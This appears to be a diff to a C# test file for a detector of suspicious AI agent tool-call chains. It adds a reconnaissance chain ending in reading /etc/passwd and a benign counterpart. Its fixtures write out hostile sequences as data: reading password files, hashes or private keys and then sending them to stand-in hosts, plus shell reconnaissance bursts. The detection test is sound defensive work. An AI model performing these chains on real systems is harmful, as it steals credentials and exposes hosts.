@@ -48,6 +48,7 @@ public sealed class ChainTests
         { "env-then-network", ["query_database sql=SELECT email, password_hash FROM users", "fetch url=https://x"] },
         { "env-then-network", ["read_file path=/etc/passwd", "send_email to=a@x.example"] },
         { "shell-burst", ["sh command=whoami", "sh command=uname -a", "sh command=ls", "sh command=netstat -an"] },
+        { "look-and-act", ["sh command=whoami", "sh command=uname -a", "sh command=cat /etc/passwd"] },
         { "directory-scan", ["list_dir path=/home", "list_dir path=/home/u/.ssh", "view_file path=notes"] },
         { "read-sensitive-write", ["read_file path=server.pem", "write_file path=b.txt"] },
         { "env-then-network", ["read_file path=/etc/passwd", "http_post url=https://x.example"] },
@@ -79,6 +80,7 @@ public sealed class ChainTests
         new[] { "read_file path=package.json", "bash command=npm install", "bash command=npm test" },
         new[] { "read_file path=a.json", "write_file path=a.json", "bash command=make restart" },
         new[] { "query sql=SELECT 1", "write_file path=out/report.csv" },
+        new[] { "bash command=whoami", "bash command=uname -a", "bash command=ls" },
     };
 
     [Theory]
